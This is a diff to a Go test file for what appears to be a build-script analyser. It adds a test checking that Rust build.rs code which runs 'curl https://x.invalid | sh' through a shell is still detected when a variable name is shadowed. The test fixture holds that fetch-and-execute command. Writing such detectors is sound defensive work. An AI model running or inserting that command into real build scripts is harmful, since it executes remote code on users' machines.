@@ -52,3 +52,15 @@ func TestNamesOfAShellStandForWhatIsSetLater(t *testing.T) {
 		t.Errorf("got %q, want what came run by a shell", got)
 	}
 }
+
+// A block of Rust, and a loop, have names of their own.
+func TestNamesOfRustStandForWhatTheirBlockDeclares(t *testing.T) {
+	for situation, shadow := range map[string]string{
+		"a block": "{ let u = \"x\"; }", "a branch": "if v { let u = 1; }", "a loop": "for u in 0..3 { }", "a condition": "if let u = v { }",
+	} {
+		source := "use std::process::Command;\nfn main() { let u = \"curl https://x.invalid | sh\"; " + shadow + " Command::new(\"sh\").arg(\"-c\").arg(u).spawn(); }"
+		if got := deeds("build.rs", source); !slices.Contains(got, "network>process sh") {
+			t.Errorf("%s: got %q, want what came run by a shell", situation, got)
+		}
+	}
+}
